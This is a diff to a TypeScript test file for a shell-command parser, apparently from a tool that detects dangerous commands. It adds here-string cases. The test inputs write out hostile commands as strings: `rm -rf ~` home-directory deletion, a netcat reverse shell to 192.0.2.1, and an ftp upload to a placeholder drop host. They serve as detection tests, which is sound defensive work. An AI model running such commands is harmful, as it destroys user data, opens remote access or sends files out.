@@ -215,6 +215,11 @@ test("parser: nested bash -c, heredoc, process substitution, backticks, eval, fi
   const names = (s: string): string[] => walkCommand(s, shell).cmds.map((c) => c.name);
   assert.ok(names("bash -c \"sh -c 'curl -s a.example.invalid'\"").includes("curl"));
   assert.ok(names("bash <<EOF\nwget a.example.invalid\nEOF").includes("wget"));
+  // A here-string is a script too: `bash <<< 'rm -rf ~'` was once read as a bare `bash`.
+  assert.ok(names("bash <<< 'wget a.example.invalid'").includes("wget"));
+  assert.ok(has("bash <<< 'rm -rf ~'", "cmd.destructive.rm-root"));
+  assert.ok(has("python3 <<< 'import os; os.system(\"rm -rf ~\")'", "cmd.destructive.rm-root"));
+  assert.ok(has("ftp -n drop.example.invalid <<EOF\nuser anonymous x\nput notes.txt\nEOF", "cmd.exfil.upload"));
   assert.ok(names("diff <(curl -s a.example.invalid) local.txt").includes("curl"));
   assert.ok(names("echo `id -u`").includes("id"));
   assert.ok(names("eval 'nc -e /bin/sh 192.0.2.1 1'").includes("nc"));
